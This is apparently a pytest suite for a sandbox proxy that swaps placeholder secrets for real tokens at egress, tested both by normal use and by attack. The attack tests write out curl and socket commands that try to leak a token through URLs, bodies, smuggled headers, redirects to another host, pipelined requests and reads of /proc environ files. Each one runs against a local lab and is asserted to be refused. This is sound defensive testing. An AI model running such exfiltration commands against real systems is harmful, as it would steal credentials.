"""Secrets brokered at the egress proxy, by use and by attack, on bubblewrap and Docker (issue 36).

The lab (:class:`tests.netlab.NetLab`, with :mod:`tests.brokerlab`) is an API that wants
``lab.token``, a git host whose pushes want it as the Basic password, an S3 endpoint that checks
SigV4 with ``lab.aws_secret``, and echo endpoints on every name. The profile names the real values
``from`` this process's environment; the jail holds placeholders only. ``allowed.test`` is the
secrets' host (its TLS terminated by the proxy with the session's CA); ``other.test`` is allowed
but named by no secret (its TLS passes unopened), which is where the attacks try to send a secret.
The proxy trusts the lab's CA through ``SANDBOX_NET_TRUST``.
"""

from __future__ import annotations

import base64
import json
import textwrap
import uuid
from typing import TYPE_CHECKING, Any

import pytest

from sandbox import exec as executor
from sandbox.errors import InvalidArgument
from tests import netlab
from tests.conftest import backend_or_skip, make_profile, own_like_a_checkout
from tests.netlab import NetLab

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable, Iterator
    from pathlib import Path

    from sandbox.backends import base

pytestmark = pytest.mark.anyio

BACKENDS = [
    pytest.param("bwrap", marks=pytest.mark.bwrap),
    pytest.param("docker", marks=pytest.mark.docker),
    pytest.param("microvm", marks=[pytest.mark.microvm, pytest.mark.slow]),
]


@pytest.fixture(scope="module")
def lab() -> Iterator[NetLab]:
    with NetLab() as running:
        yield running


@pytest.fixture(autouse=True)
def lab_env(lab: NetLab, monkeypatch: pytest.MonkeyPatch) -> None:
    """The proxy resolves with the lab's DNS, trusts the lab's CA, and reads the real values here."""
    netlab.broker_env(lab, monkeypatch)


@pytest.fixture(params=BACKENDS)
def net_backend(request: pytest.FixtureRequest) -> base.Backend:
    return backend_or_skip(request.param)


def https(lab: NetLab, name: str) -> str:
    return f"{name}:{lab.https_port}"


def allow(lab: NetLab) -> list[str]:
    """Both names on the HTTPS port, and the lab's address (a private one, named for the rebinding check)."""
    ports = sorted(set(lab.ports.values()))
    return [https(lab, "allowed.test"), https(lab, "other.test"), *(f"{lab.address}:{port}" for port in ports)]


Opener = "Callable[..., Any]"


@pytest.fixture
async def jail_with(net_backend: base.Backend, workspace: Path, lab: NetLab) -> AsyncIterator[Callable[..., Any]]:
    opened: list[base.Jail] = []
    own_like_a_checkout(workspace, net_backend.name)

    async def factory(secrets: dict[str, Any], requests: list[dict[str, Any]] | None = None) -> base.Jail:
        overrides: dict[str, Any] = {"network.mode": "allowlist", "network.allow": allow(lab), "secrets": secrets}
        if requests is not None:
            overrides["network.requests"] = requests
        jail = await net_backend.open_jail(workspace, make_profile("default", **overrides))
        opened.append(jail)
        return jail

    yield factory
    for jail in opened:
        await jail.aclose()


def token(lab: NetLab, kind: str = "bearer", **more: Any) -> dict[str, Any]:
    return {"LAB_TOKEN": {"from": "env:LAB_TOKEN", "hosts": [https(lab, "allowed.test")], "as": kind, **more}}


async def sh(jail: base.Jail, script: str, timeout: float = 90) -> executor.ExecResult:
    return await executor.run(jail, ["bash", "-c", script], timeout=timeout)


def denials(result: executor.ExecResult) -> list[dict[str, Any]]:
    assert result.network is not None
    return list(result.network["denials"])


def arrived(lab: NetLab, path: str) -> list[str | None]:
    """The Authorization values the lab saw on requests for ``path`` (any host), in order."""
    return [entry.get("authorization") for entry in lab.log()["http"] if entry["path"].startswith(path)]


# -- by use ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["bearer", "header:X-Api-Key", "basic"])
async def test_a_token_the_jail_only_holds_as_a_placeholder_opens_the_api(
    jail_with: Callable[..., Any], lab: NetLab, kind: str
) -> None:
    jail = await jail_with(token(lab, kind))
    header = {
        "bearer": "Authorization: Bearer $LAB_TOKEN",
        "header:X-Api-Key": "X-Api-Key: $LAB_TOKEN",
        "basic": 'Authorization: Basic $(printf "me:%s" "$LAB_TOKEN" | base64 -w0)',
    }[kind]
    url = f"https://{https(lab, 'allowed.test')}/api/{kind.replace(':', '-')}"
    result = await sh(jail, f'echo "$LAB_TOKEN"; curl -sS -H "{header}" {url}')
    placeholder, body = result.stdout.splitlines()[:2]
    assert placeholder.startswith("SBX_PLACEHOLDER_") and lab.token not in result.stdout + result.stderr
    assert json.loads(body)["ok"] is True, result
    assert denials(result) == []


async def test_python_urllib_trusts_the_session_ca_through_its_variables(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab))
    url = f"https://{https(lab, 'allowed.test')}/api/python"
    script = (
        "import os, urllib.request; "
        f"r = urllib.request.Request('{url}', headers={{'Authorization': 'Bearer ' + os.environ['LAB_TOKEN']}}); "
        "print(urllib.request.urlopen(r).read().decode())"
    )
    result = await sh(jail, f'python3 -c "{script}"')
    assert json.loads(result.stdout)["ok"] is True, result


@pytest.mark.parametrize("net_backend", [pytest.param("bwrap", marks=pytest.mark.bwrap)], indirect=True)
async def test_java_trusts_the_session_ca_through_the_trust_store_the_proxy_writes(
    jail_with: Callable[..., Any], lab: NetLab, workspace: Path
) -> None:
    """bubblewrap only: a bwrap jail runs the host's JDK (``make setup`` installs it); the image has none."""
    jail = await jail_with(token(lab))
    url = f"https://{https(lab, 'allowed.test')}/api/java"
    (workspace / "Api.java").write_text(JAVA_CLIENT.replace("URL_HERE", url))
    result = await sh(jail, "java Api.java 2>&1", timeout=120)
    assert '"ok": true' in result.stdout, result


JAVA_CLIENT = """
import java.net.*; import java.net.http.*;
public class Api { public static void main(String[] a) throws Exception {
  String[] proxy = System.getenv("https_proxy").replace("http://", "").split(":");
  InetSocketAddress at = new InetSocketAddress(proxy[0], Integer.parseInt(proxy[1]));
  HttpClient c = HttpClient.newBuilder().proxy(ProxySelector.of(at)).build();
  String auth = "Bearer " + System.getenv("LAB_TOKEN");
  HttpRequest r = HttpRequest.newBuilder(URI.create("URL_HERE")).header("Authorization", auth).build();
  System.out.println(c.send(r, HttpResponse.BodyHandlers.ofString()).body()); } }
"""


async def test_git_pushes_with_a_token_the_task_never_sees(jail_with: Callable[..., Any], lab: NetLab) -> None:
    jail = await jail_with(token(lab, "basic"))
    branch = uuid.uuid4().hex  # the lab's repositories outlive a test: each run pushes a branch of its own
    script = f"""
        set -e
        export HOME=$PWD/home GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t
        mkdir -p home && git clone -q {lab.private_git_url} clone && cd clone
        echo work > work.txt && git add work.txt && git commit -qm work
        git push -q origin HEAD:refs/heads/agent/{branch} 2>&1
        git ls-remote origin refs/heads/agent/{branch}
        env | grep -c "{lab.token}" || true
    """
    result = await sh(jail, textwrap.dedent(script))
    assert result.exit_code == 0, result
    lines = result.stdout.splitlines()
    assert lines[-2].endswith(f"refs/heads/agent/{branch}") and lines[-1] == "0", result
    pushed = [value for value in arrived(lab, "/private.git/git-receive-pack") if value]
    assert pushed and all(lab.token.encode().hex() not in (value or "") for value in pushed)
    assert lab.token not in result.stdout + result.stderr


async def test_a_push_outside_the_rules_refs_is_refused_with_one_line(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    rules = [{"hosts": [https(lab, "allowed.test")], "git_push": ["private"], "git_refs": ["refs/heads/agent/*"]}]
    jail = await jail_with(token(lab, "basic"), rules)
    script = f"""
        export HOME=$PWD/home GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t
        mkdir -p home && git clone -q {lab.private_git_url} c2 && cd c2 && echo x > x && git add x && git commit -qm x
        git push -q origin HEAD:refs/heads/main 2>&1 && echo pushed-main
        git push -q {lab.other_git_url} HEAD:refs/heads/agent/x 2>&1 && echo pushed-other
        git push -q origin HEAD:refs/heads/agent/{uuid.uuid4().hex} 2>&1 && echo pushed-agent
    """
    result = await sh(jail, textwrap.dedent(script))
    assert "pushed-main" not in result.stdout and "pushed-other" not in result.stdout, result
    assert "pushed-agent" in result.stdout, result
    refused = [(d["reason"], d.get("method"), d.get("path")) for d in denials(result)]
    assert ("request-refused", "POST", "/private.git/git-receive-pack") in refused, refused
    assert any(path is not None and path.startswith("/other.git/") for _, _, path in refused), refused


async def test_s3_requests_signed_with_the_placeholder_are_signed_again_by_the_proxy(
    jail_with: Callable[..., Any], lab: NetLab, workspace: Path
) -> None:
    secrets = {
        "AWS": {
            "from": "env:LAB_AWS_SECRET",
            "hosts": [https(lab, "allowed.test")],
            "as": "aws-sigv4",
            "access_key_id": lab.aws_key_id,
            "env": "AWS_SECRET_ACCESS_KEY",
        }
    }
    jail = await jail_with(secrets)
    (workspace / "s3put.py").write_text(S3_CLIENT)
    base = f"https://{https(lab, 'allowed.test')}/s3/bucket/key.txt"
    result = await sh(jail, f"python3 s3put.py PUT {base} hello-s3 && python3 s3put.py GET {base}")
    assert result.stdout.split() == ["200", "200", "hello-s3"], result
    assert lab.aws_secret not in result.stdout + result.stderr


S3_CLIENT = """
import datetime, hashlib, hmac, os, sys, urllib.parse, urllib.request
method, url = sys.argv[1], sys.argv[2]
body = sys.argv[3].encode() if len(sys.argv) > 3 else b""
parts = urllib.parse.urlsplit(url)
now = datetime.datetime.now(datetime.timezone.utc)
amz_date, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
payload = hashlib.sha256(body).hexdigest()
headers = {"host": parts.netloc, "x-amz-content-sha256": payload, "x-amz-date": amz_date}
signed = ";".join(sorted(headers))
canonical = "\\n".join([method, parts.path, "", *(f"{k}:{headers[k]}" for k in sorted(headers)), "", signed, payload])
scope = f"{day}/us-east-1/s3/aws4_request"
to_sign = "\\n".join(["AWS4-HMAC-SHA256", amz_date, scope, hashlib.sha256(canonical.encode()).hexdigest()])
key = ("AWS4" + os.environ["AWS_SECRET_ACCESS_KEY"]).encode()
for part in (day, "us-east-1", "s3", "aws4_request"):
    key = hmac.new(key, part.encode(), hashlib.sha256).digest()
signature = hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest()
credential = f"{os.environ['AWS_ACCESS_KEY_ID']}/{scope}"
auth = f"AWS4-HMAC-SHA256 Credential={credential}, SignedHeaders={signed}, Signature={signature}"
request = urllib.request.Request(url, data=body or None, method=method, headers={**headers, "Authorization": auth})
try:
    with urllib.request.urlopen(request) as response:
        print(response.status); print(response.read().decode() if method == "GET" else "", end="")
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode()[:200])
"""


# -- by attack ------------------------------------------------------------------------------------


async def test_the_value_is_nowhere_in_the_jail_environment_proc_or_files(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab, "basic"))
    encoded = base64.b64encode(lab.token.encode()).decode()  # the script must not hold the value it looks for
    script = f"""
        echo {encoded} | base64 -d > pattern
        git ls-remote {lab.private_git_url} >/dev/null &
        cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c -f pattern
        grep -rsl --exclude=pattern -f pattern /run/sandbox-net /tmp /etc 2>/dev/null | head -1
        git config --list | grep -c -f pattern
        printf 'protocol=https\\nhost={https(lab, "allowed.test")}\\n\\n' | git credential fill | grep -c -f pattern
        wait
    """
    result = await sh(jail, textwrap.dedent(script))
    assert result.stdout.split() == ["0", "0", "0"], result


async def test_a_placeholder_sent_to_another_host_arrives_as_it_was_sent(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab))
    script = f"""
        curl -sS -H "Authorization: Bearer $LAB_TOKEN" https://{https(lab, "other.test")}/echo-other
        curl -sS -L --location-trusted -H "Authorization: Bearer $LAB_TOKEN" \\
          "https://{https(lab, "allowed.test")}/redirect?to=https://{https(lab, "other.test")}/echo-redirected"
    """
    result = await sh(jail, textwrap.dedent(script))
    assert lab.token not in result.stdout, result
    for path in ("/echo-other", "/echo-redirected"):
        values = arrived(lab, path)
        assert values and all(value is not None and "SBX_PLACEHOLDER_" in value for value in values), (path, values)


async def test_a_placeholder_in_the_url_the_body_or_another_header_is_refused(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab))
    host = https(lab, "allowed.test")
    script = f"""
        curl -sS "https://{host}/echo-url?t=$LAB_TOKEN"
        curl -sS -X POST --data "token=$LAB_TOKEN" https://{host}/echo-body
        curl -sS -H "X-Smuggle: $LAB_TOKEN" https://{host}/echo-header
    """
    result = await sh(jail, textwrap.dedent(script))
    reasons = [(d["reason"], d["path"]) for d in denials(result)]
    assert reasons == [
        ("secret-misplaced", "/echo-url"),
        ("secret-misplaced", "/echo-body"),
        ("secret-misplaced", "/echo-header"),
    ], result
    assert result.stdout.count("refused (secret-misplaced)") == 3
    assert arrived(lab, "/echo-url") == [] and arrived(lab, "/echo-header") == []
    assert lab.token not in result.stdout


async def test_a_named_host_that_echoes_the_credential_shows_the_jail_only_stars(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab))
    result = await sh(
        jail, f'curl -sS -i -H "Authorization: Bearer $LAB_TOKEN" https://{https(lab, "allowed.test")}/echo-auth'
    )
    assert lab.token not in result.stdout and "*" * len(lab.token) in result.stdout, result
    assert arrived(lab, "/echo-auth")[-1:] == [f"Bearer {lab.token}"]


async def test_a_named_host_that_keeps_the_credential_and_shows_it_later_shows_only_stars(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab, "basic"))
    host = https(lab, "allowed.test")
    basic = 'Authorization: Basic $(printf "me:%s" "$LAB_TOKEN" | base64 -w0)'
    result = await sh(
        jail, f'curl -sS -o /dev/null -H "{basic}" https://{host}/keep-auth; curl -sS https://{host}/kept-auth'
    )
    kept = json.loads(result.stdout)  # the Basic form the proxy wrote, shown to a request that carried none
    assert kept.startswith("Basic ") and set(kept.removeprefix("Basic ")) == {"*"}, result
    assert base64.b64encode(f"me:{lab.token}".encode()).decode() not in result.stdout


async def test_pipelined_requests_are_judged_one_by_one_and_http2_is_never_spoken(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    jail = await jail_with(token(lab))
    host = https(lab, "allowed.test")
    name = host.split(":")[0]
    # A CONNECT first (the proxy variables are the jail's only way), then TLS, then two requests in one write.
    script = f"""
python3 - <<'EOF'
import os, socket, ssl
raw = socket.create_connection(("127.0.0.1", 3128))
raw.sendall(b"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
assert raw.recv(4096).startswith(b"HTTP/1.1 200")
tls = ssl.create_default_context().wrap_socket(raw, server_hostname="{name}")
ph = os.environ["LAB_TOKEN"]
first = f"GET /echo-first HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer {{ph}}\\r\\n\\r\\n"
second = f"GET /echo-second HTTP/1.1\\r\\nHost: {host}\\r\\nX-Smuggle: {{ph}}\\r\\n\\r\\n"
tls.sendall((first + second).encode())
data = b""
while chunk := tls.recv(65536):
    data += chunk
print(data.count(b"HTTP/1.1 200"), data.count(b"secret-misplaced") > 0)
raw = socket.create_connection(("127.0.0.1", 3128))
raw.sendall(b"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
assert raw.recv(4096).startswith(b"HTTP/1.1 200")
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
tls = context.wrap_socket(raw, server_hostname="{name}")
print("alpn", tls.selected_alpn_protocol())
tls.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
data = b""
while chunk := tls.recv(65536):
    data += chunk
print("h2", b"bad-request" in data)
EOF
curl -sS --http2 -o /dev/null -w '%{{http_version}}\\n' -H "Authorization: Bearer $LAB_TOKEN" https://{host}/api/h2
"""
    result = await sh(jail, script)
    lines = result.stdout.splitlines()
    assert lines[0] == "1 True", result
    assert lines[1:3] == ["alpn None", "h2 True"], result
    assert lines[-1] == "1.1", result
    assert arrived(lab, "/echo-second") == []


async def test_a_tool_with_its_own_trust_store_fails_closed(jail_with: Callable[..., Any], lab: NetLab) -> None:
    jail = await jail_with(token(lab))
    url = f"https://{https(lab, 'allowed.test')}/api/own-store"
    script = f"""
python3 - <<'EOF'
import os, ssl, urllib.request
# Its own store: one root of the system's bundle, not the session's CA (as a pinned client has).
first = open("/usr/share/ca-certificates/mozilla/" + sorted(os.listdir("/usr/share/ca-certificates/mozilla"))[0]).read()
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.load_verify_locations(cadata=first)
r = urllib.request.Request("{url}", headers={{"Authorization": "Bearer " + os.environ["LAB_TOKEN"]}})
try:
    urllib.request.urlopen(r, context=context)
    print("reached")
except urllib.error.URLError as e:
    print("refused", "CERTIFICATE_VERIFY_FAILED" in str(e))
EOF
"""
    result = await sh(jail, script)
    assert result.stdout.split() == ["refused", "True"], result
    assert arrived(lab, "/api/own-store") == []


async def test_request_rules_refuse_with_one_line_naming_method_path_and_rule(
    jail_with: Callable[..., Any], lab: NetLab
) -> None:
    rules = [{"hosts": [https(lab, "allowed.test")], "preset": "read-only"}]
    jail = await jail_with({}, rules)
    host = https(lab, "allowed.test")
    result = await sh(jail, f"curl -sS https://{host}/echo-get; echo; curl -sS -X DELETE https://{host}/echo-delete")
    assert '"method": "GET"' in result.stdout, result
    assert f"sandbox: request DELETE /echo-delete to {host} refused (request-refused)" in result.stdout
    refused = denials(result)
    assert [(d["reason"], d["method"], d["path"]) for d in refused] == [("request-refused", "DELETE", "/echo-delete")]
    assert arrived(lab, "/echo-delete") == []


async def test_a_secret_that_cannot_be_read_refuses_the_session_naming_it(
    net_backend: base.Backend, workspace: Path, lab: NetLab
) -> None:
    secrets = {"MISSING": {"from": "env:NOT_SET_ANYWHERE", "hosts": [https(lab, "allowed.test")]}}
    profile = make_profile("default", **{"network.mode": "allowlist", "secrets": secrets})
    with pytest.raises(InvalidArgument, match="secret MISSING: the variable NOT_SET_ANYWHERE is not set"):
        await net_backend.open_jail(workspace, profile)


@pytest.mark.root
async def test_transparent_mode_brokers_a_program_that_ignores_the_proxy_variables(
    net_backend: base.Backend, workspace: Path, lab: NetLab
) -> None:
    """A redirected TLS connection (its ClientHello read to find the host) is terminated all the same."""
    if lab.loopback_only:
        pytest.skip("transparent mode needs the namespace lab: root creates it (pyroute2)")
    overrides = {"network.mode": "allowlist", "network.transparent": True}
    missing = net_backend.probe().missing((), make_profile("default", **overrides))
    if missing:
        pytest.skip(f"no transparent network here: {missing}")
    own_like_a_checkout(workspace, net_backend.name)
    allowed = [*allow(lab), f"allowed.test:{lab.http_port}"]
    profile = make_profile("default", **overrides, **{"network.allow": allowed, "secrets": token(lab)})
    async with await net_backend.open_jail(workspace, profile) as jail:
        script = (
            f'curl -sS --noproxy "*" -H "Authorization: Bearer $LAB_TOKEN" https://{https(lab, "allowed.test")}/api/t'
        )
        result = await sh(jail, script)
    assert json.loads(result.stdout)["ok"] is True, result
    assert arrived(lab, "/api/t")[-1:] == [f"Bearer {lab.token}"]


async def test_a_real_server_the_proxy_cannot_verify_is_refused_before_any_secret_goes(
    jail_with: Callable[..., Any], lab: NetLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SANDBOX_NET_TRUST")  # the lab's CA is no CA this host trusts
    jail = await jail_with(token(lab))
    before = len(arrived(lab, "/api/unverified"))
    url = f"https://{https(lab, 'allowed.test')}/api/unverified"
    result = await sh(jail, f'curl -sS -H "Authorization: Bearer $LAB_TOKEN" {url}')
    assert "refused (certificate-invalid)" in result.stdout, result
    assert [d["reason"] for d in denials(result)] == ["certificate-invalid"]
    assert len(arrived(lab, "/api/unverified")) == before  # the request never reached it


NODE_CLIENT = """
const http = require("http"), tls = require("tls");
const [host, port] = process.argv[2].split(":");
const proxy = { host: "127.0.0.1", port: 3128, method: "CONNECT", path: process.argv[2] };
http.request(proxy).on("connect", (res, socket) => {
  const secure = tls.connect({ socket, servername: host }, () => {
    const auth = `Authorization: Bearer ${process.env.LAB_TOKEN}`;
    secure.write(`GET /api/node HTTP/1.1\\r\\nHost: ${host}:${port}\\r\\n${auth}\\r\\nConnection: close\\r\\n\\r\\n`);
  });
  let body = "";
  secure.on("data", (d) => (body += d)).on("end", () => console.log(body.split("\\r\\n\\r\\n")[1]));
  secure.on("error", (e) => console.log("error", e.code));
}).end();
"""


@pytest.mark.parametrize("net_backend", [pytest.param("bwrap", marks=pytest.mark.bwrap)], indirect=True)
async def test_a_node_client_trusts_the_session_ca_through_its_extra_certificates(
    jail_with: Callable[..., Any], lab: NetLab, workspace: Path
) -> None:
    """bubblewrap only: a bwrap jail runs the host's Node (``make setup`` installs it); the image has none."""
    jail = await jail_with(token(lab))
    (workspace / "client.js").write_text(NODE_CLIENT)
    result = await sh(jail, f"node client.js {https(lab, 'allowed.test')}")
    assert json.loads(result.stdout)["ok"] is True, result
